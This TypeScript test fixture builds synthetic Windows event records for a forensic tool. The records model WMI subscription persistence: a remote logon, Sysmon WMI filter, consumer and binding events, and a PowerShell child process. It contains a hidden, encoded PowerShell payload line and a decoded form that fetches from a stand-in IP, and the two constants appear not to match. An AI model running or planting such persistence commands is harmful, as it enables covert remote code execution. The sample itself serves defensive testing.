import type { CandidateLogon } from '../../src/entities/index.ts';
import type { RecordLine } from '../../src/report/index.ts';
import type { Evidence } from '../../src/windows/index.ts';

/** The records that the hand-made result cites. */

export const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
export const WMI = 'Microsoft-Windows-WMI-Activity/Operational';
export const HOST = 'srv-02.corp.example';
export const ARCHIVE = 'evidence/SRV-02.zip';
export const SID = 'S-1-5-21-1004336348-1177238915-682003330-1147';

interface Draft {
  readonly id: string;
  readonly channel: string;
  readonly eventId: number;
  readonly recordId: number;
  readonly time: string;
  readonly offset: number;
  readonly fields: readonly (readonly [string, string])[];
}

function recordOf(draft: Draft): RecordLine {
  const data: Record<string, string> = Object.create(null);
  for (const [name, value] of draft.fields) data[name] = value;
  return {
    id: draft.id,
    time: draft.time,
    timeRaw: draft.time,
    host: HOST,
    hostRaw: 'SRV-02.corp.example',
    channel: draft.channel,
    provider:
      draft.channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : draft.channel.replace('/Operational', ''),
    eventId: draft.eventId,
    version: 3,
    recordId: draft.recordId,
    headerRecordId: draft.recordId,
    class: 'live',
    shape: 'evtx',
    sources: [{ file: ARCHIVE, container: [memberOf(draft.channel)], offset: draft.offset, length: 1184 }],
    system: { Level: '4', Keywords: '0x8000000000000000', ProcessID: '2812', ThreadID: '4020', UserID: 'S-1-5-18' },
    data,
  };
}

export function memberOf(channel: string): string {
  return `Windows/System32/winevt/Logs/${channel.replace('/', '%4')}.evtx`;
}

export function evidenceOf(record: RecordLine): Evidence {
  const source = record.sources[0];
  return {
    file: source?.file ?? ARCHIVE,
    ...(source?.container === undefined ? {} : { container: source.container }),
    channel: record.channel,
    eventId: record.eventId,
    ...(record.recordId === undefined ? {} : { recordId: record.recordId, headerRecordId: record.recordId }),
    ...(record.time === undefined ? {} : { time: record.time }),
    offset: source?.offset ?? 0,
    length: source?.length ?? 0,
    record: record.id,
  };
}

export const QUERY =
  "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 10";
export const PAYLOAD =
  'powershell.exe -NoP -W Hidden -Enc JgAgACQAZQBuAHYAOgBQAHIAbwBnAHIAYQBtAEQAYQB0AGEAXABVAHAAZABTAHYAYwBcAHMAeQBuAGMALgBwAHMAMQA=';
export const DECODED = '& $env:ProgramData\\UpdSvc\\sync.ps1 -From https://203.0.113.24/u';

export const logon: RecordLine = recordOf({
  id: 'aaaaaaaaaaaaaaaa',
  channel: 'Security',
  eventId: 4624,
  recordId: 991301,
  time: '2026-03-12T09:44:02.9180123Z',
  offset: 0x19c1000,
  fields: [
    ['TargetUserSid', SID],
    ['TargetUserName', 'svc-deploy'],
    ['TargetDomainName', 'CORP'],
    ['TargetLogonId', '0x1f3a9c'],
    ['LogonType', '3'],
    ['IpAddress', '10.20.4.17'],
    ['IpPort', '50410'],
  ],
});
export const filterRecord: RecordLine = recordOf({
  id: 'bbbbbbbbbbbbbbbb',
  channel: SYSMON,
  eventId: 19,
  recordId: 448120,
  time: '2026-03-12T09:44:04.2050000Z',
  offset: 0x11200,
  fields: [
    ['RuleName', '-'],
    ['EventType', 'WmiFilterEvent'],
    ['UtcTime', '2026-03-12 09:44:04.205'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['EventNamespace', ' "root\\\\cimv2"'],
    ['Name', ' "UpdSvcSync"'],
    ['Query', ` "${QUERY}"`],
  ],
});
export const consumerRecord: RecordLine = recordOf({
  id: 'cccccccccccccccc',
  channel: SYSMON,
  eventId: 20,
  recordId: 448121,
  time: '2026-03-12T09:44:04.3010000Z',
  offset: 0x11ae0,
  fields: [
    ['EventType', 'WmiConsumerEvent'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['Name', ' "UpdSvcSync"'],
    ['Type', 'Command Line'],
    ['Destination', ` "${PAYLOAD}"`],
  ],
});
export const bindingRecord: RecordLine = recordOf({
  id: 'dddddddddddddddd',
  channel: SYSMON,
  eventId: 21,
  recordId: 448122,
  time: '2026-03-12T09:44:04.3950000Z',
  offset: 0x123a8,
  fields: [
    ['EventType', 'WmiBindingEvent'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['Consumer', ' "CommandLineEventConsumer.Name=\\"UpdSvcSync\\""'],
    ['Filter', ' "__EventFilter.Name=\\"UpdSvcSync\\""'],
  ],
});
export const registration: RecordLine = recordOf({
  id: 'eeeeeeeeeeeeeeee',
  channel: WMI,
  eventId: 5861,
  recordId: 2207,
  time: '2026-03-12T09:44:04.4120042Z',
  offset: 0x2f40,
  fields: [
    ['Namespace', '//./ROOT/Subscription'],
    ['ESS', 'UpdSvcSync'],
    ['CONSUMER', 'CommandLineEventConsumer="UpdSvcSync"'],
    ['PossibleCause', `Binding EventFilter: instance of __EventFilter { Query = "${QUERY}"; };`],
  ],
});
export const child: RecordLine = recordOf({
  id: 'ffffffffffffffff',
  channel: SYSMON,
  eventId: 1,
  recordId: 448390,
  time: '2026-03-12T10:02:17.7020000Z',
  offset: 0x5e910,
  fields: [
    ['UtcTime', '2026-03-12 10:02:17.702'],
    ['ProcessId', '4242'],
    ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
    ['CommandLine', PAYLOAD],
    ['User', 'NT AUTHORITY\\SYSTEM'],
    ['ParentImage', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'],
    ['ParentProcessId', '3120'],
  ],
});

export const inventory: RecordLine = recordOf({
  id: 'gggggggggggggggg',
  channel: WMI,
  eventId: 5861,
  recordId: 161,
  time: '2026-03-11T22:10:00.0000000Z',
  offset: 0x1200,
  fields: [
    ['Namespace', '//./root/subscription'],
    ['CONSUMER', 'NTEventLogEventConsumer="SCM Event Log Consumer"'],
  ],
});

export const RECORDS: readonly RecordLine[] = [
  inventory,
  logon,
  filterRecord,
  consumerRecord,
  bindingRecord,
  registration,
  child,
];

/** The remote logon that may have carried it. */
export const CANDIDATE: CandidateLogon = {
  join: 'J12',
  strength: 'strong',
  account: 'CORP\\svc-deploy',
  address: '10.20.4.17',
  ports: [50410],
  workstation: 'WS-07',
  logonId: '0x1f3a9c',
  time: '2026-03-12T09:44:02.9180123Z',
  evidence: [evidenceOf(logon)],
};
